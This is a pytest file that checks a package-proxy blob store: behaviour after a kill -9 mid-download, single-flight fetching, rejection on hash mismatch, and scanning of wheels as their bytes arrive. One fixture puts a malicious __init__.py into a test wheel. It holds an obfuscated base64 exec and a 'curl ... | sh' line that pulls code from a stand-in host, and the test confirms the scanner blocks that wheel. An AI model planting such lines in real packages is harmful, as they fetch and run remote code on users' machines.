"""The blob store under real processes: kill -9 mid-download, single-flight, hash mismatch."""

from __future__ import annotations

import contextlib
import hashlib
import os
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from tests.builders import build_wheel
from tests.server.fakes import SlowUpstream
from tests.server.serverproc import ServerProcess, eventually

pytestmark = pytest.mark.slow
OLD = datetime.now(UTC) - timedelta(days=60)
JSON = {"Accept": "application/vnd.pypi.simple.v1+json"}


def _file_url(server: ServerProcess, project: str) -> str:
    page = httpx.get(server.index + f"{project}/", headers=JSON, timeout=30).json()
    wheel = next(f for f in page["files"] if f["filename"].endswith(".whl"))
    return str(httpx.URL(server.index + f"{project}/").join(wheel["url"]))


def _blobs(data_dir: Path) -> list[Path]:
    return [p for p in (data_dir / "store" / "blobs").rglob("*") if p.is_file()]


def _spares(tmp_dir: Path) -> list[Path]:
    """The spare download files ready in the store's `tmp/`."""
    return sorted(tmp_dir.glob("spare-*"))


def _big_wheel(directory: Path) -> Path:
    # Random bytes do not compress: the wheel stays about 8 MiB.
    return build_wheel(directory, "bigpkg", "1.0", {"bigpkg/data.bin": os.urandom(8 << 20)})


def test_kill_9_during_download_leaves_no_partial_blob(tmp_path: Path) -> None:
    upstream = SlowUpstream(tmp_path / "up")
    wheel = _big_wheel(tmp_path)
    upstream.add_file("bigpkg", "1.0", wheel.name, wheel.read_bytes(), uploaded=OLD)
    upstream.start()
    data = tmp_path / "data"
    server = ServerProcess(upstream.url, data, env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        url = _file_url(server, "bigpkg")

        def download() -> None:
            with contextlib.suppress(httpx.HTTPError):  # the server is killed under it
                httpx.get(url, timeout=60)

        threading.Thread(target=download, daemon=True).start()
        tmp_dir = data / "store" / "tmp"
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            partial = [p for p in tmp_dir.iterdir() if p.is_file() and p.stat().st_size > 0]
            if partial:
                break
            time.sleep(0.02)
        else:
            pytest.fail("the download never started")
        server.kill()
        assert _blobs(data) == []  # nothing under a hash
        assert any(p.is_file() for p in tmp_dir.iterdir())  # the partial is only in tmp/
        SlowUpstream.pause = 0.0
        again = ServerProcess(upstream.url, data, env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
        try:
            # Recovered at start (a spare download file, if the server keeps one, is not a
            # leftover: it is written anew after the recovery).
            assert [
                p for p in tmp_dir.iterdir() if not p.name.lstrip(".").startswith("spare-")
            ] == []
            body = httpx.get(_file_url(again, "bigpkg"), timeout=60)
            assert body.status_code == 200
            # The wheel and the METADATA read from it (after the response), each whole under
            # its own hash.
            assert eventually(lambda: len(_blobs(data)) == 2)
            stored = _blobs(data)
            for blob in stored:
                assert hashlib.sha256(blob.read_bytes()).hexdigest() == blob.name
            assert hashlib.sha256(body.content).hexdigest() in {b.name for b in stored}
        finally:
            again.stop()
    finally:
        SlowUpstream.pause = 0.05
        upstream.stop()
        if server.proc.poll() is None:
            server.kill()


def _process_tree() -> dict[int, int]:
    """Every live process's parent, read from /proc (zombies count as ended)."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
                if fields[0] != "Z":
                    parents[int(entry.name)] = int(fields[1])
    return parents


def _descendants(pid: int) -> set[int]:
    tree = _process_tree()
    found: set[int] = set()
    todo = [pid]
    while todo:
        parent = todo.pop()
        for child, of in tree.items():
            if of == parent and child not in found:
                found.add(child)
                todo.append(child)
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_kill_9_of_the_server_ends_its_scan_workers(tmp_path: Path) -> None:
    upstream = SlowUpstream(tmp_path / "up")
    upstream.start()
    env = {"PYCUSTOMS_SERVE_SCAN_WORKERS": "2", "PYCUSTOMS_SERVE_STREAM_SCANS": "1"}
    server = ServerProcess(upstream.url, tmp_path / "data", env=env)
    try:
        # Resource tracker, fork server, 2 scan workers and 1 streaming worker.
        assert eventually(lambda: len(_descendants(server.proc.pid)) >= 5, 30)
        helpers = _descendants(server.proc.pid)
        server.kill()
        assert eventually(lambda: not helpers & set(_process_tree()), 15), helpers & set(
            _process_tree()
        )
    finally:
        if server.proc.poll() is None:
            server.kill()
        upstream.stop()


def test_concurrent_requests_share_one_fetch_and_tampered_file_is_refused(tmp_path: Path) -> None:
    upstream = SlowUpstream(tmp_path / "up")
    shared = upstream.add_release("sharedpkg", "1.0", uploaded=OLD, sdist=False)[0]
    tampered = upstream.add_release("tamperpkg", "1.0", uploaded=OLD, sdist=False)[0]
    upstream.tamper("tamperpkg-1.0-py3-none-any.whl", "0" * 64)
    upstream.start()
    server = ServerProcess(upstream.url, tmp_path / "data", env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        url = _file_url(server, "sharedpkg")
        with ThreadPoolExecutor(8) as pool:
            answers = list(pool.map(lambda _: httpx.get(url, timeout=60), range(8)))
        assert {a.status_code for a in answers} == {200}
        assert len(upstream.requests_to("/files/")) == 1
        refused = httpx.get(_file_url(server, "tamperpkg"), timeout=60)
        assert refused.status_code == 502
        assert refused.json()["rule"] == "policy/fetch-failed"
        assert "sha256" in refused.reason_phrase
        # The shared wheel and the METADATA read from it (after the response) are stored;
        # the tampered file is not.
        assert eventually(lambda: len(_blobs(tmp_path / "data")) == 2)
        stored = {p.name for p in _blobs(tmp_path / "data")}
        assert shared.sha256 in stored
        assert tampered.sha256 not in stored
    finally:
        server.stop()
        upstream.stop()


@pytest.mark.parametrize(("streams", "spare"), [("1", "0"), ("0", "0"), ("1", "16"), ("0", "16")])
def test_cut_download_and_trickled_malware_while_scanning_as_bytes_arrive(
    tmp_path: Path, streams: str, spare: str
) -> None:
    # PYCUSTOMS_SERVE_STREAM_SCANS=1 scans wheels as they download, 0 after: same answers.
    # With a 16 MiB spare download file, the 8 MiB wheel is written over the spare.
    upstream = SlowUpstream(tmp_path / "up")
    wheel = _big_wheel(tmp_path)
    upstream.add_file("bigpkg", "1.0", wheel.name, wheel.read_bytes(), uploaded=OLD)
    payload = (
        "import base64, os\n"
        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"
        "os.system('curl -s http://198.51.100.9/p | sh')\n"
    )
    bad = build_wheel(
        tmp_path,
        "trickled",
        "1.0",
        {"trickled/data.bin": os.urandom(3 << 20), "trickled/__init__.py": payload},
    )
    upstream.add_file("trickled", "1.0", bad.name, bad.read_bytes(), uploaded=OLD)
    upstream.start()
    data = tmp_path / "data"
    env = {
        "PYCUSTOMS_SERVE_PRESCAN": "0",
        "PYCUSTOMS_SERVE_STREAM_SCANS": streams,
        "PYCUSTOMS_SERVE_DOWNLOAD_SPARE_MIB": spare,
    }
    server = ServerProcess(upstream.url, data, env=env)
    tmp_dir = data / "store" / "tmp"
    try:
        if spare != "0":
            assert eventually(lambda: _spares(tmp_dir))
        taken = _spares(tmp_dir)
        url = _file_url(server, "bigpkg")
        SlowUpstream.cut_after = 3 << 20
        started = time.monotonic()
        cut = httpx.get(url, timeout=120)
        assert cut.status_code == 502, cut.text
        assert cut.json()["rule"] == "policy/fetch-failed"
        assert time.monotonic() - started < 60
        assert _blobs(data) == []
        # No partial file, link or marker; only a new spare (the cut download took the old one).
        assert [p for p in tmp_dir.iterdir() if not p.name.lstrip(".").startswith("spare-")] == []
        assert not set(taken) & set(_spares(tmp_dir))
        SlowUpstream.cut_after = None
        if spare != "0":
            assert eventually(lambda: _spares(tmp_dir))
        taken = _spares(tmp_dir)
        whole = httpx.get(url, timeout=120)
        assert whole.status_code == 200
        assert whole.content == wheel.read_bytes()
        assert not any(p.exists() for p in taken)  # served from what overwrote the spare
        stored = next(
            p for p in _blobs(data) if p.name == hashlib.sha256(whole.content).hexdigest()
        )
        assert stored.stat().st_size == len(whole.content)
        refused = httpx.get(_file_url(server, "trickled"), timeout=120)
        assert refused.status_code == 403
        assert refused.json()["rule"] == "policy/scan-blocked"
        assert hashlib.sha256(wheel.read_bytes()).hexdigest() in {p.name for p in _blobs(data)}
    finally:
        SlowUpstream.cut_after = None
        server.stop()
        upstream.stop()
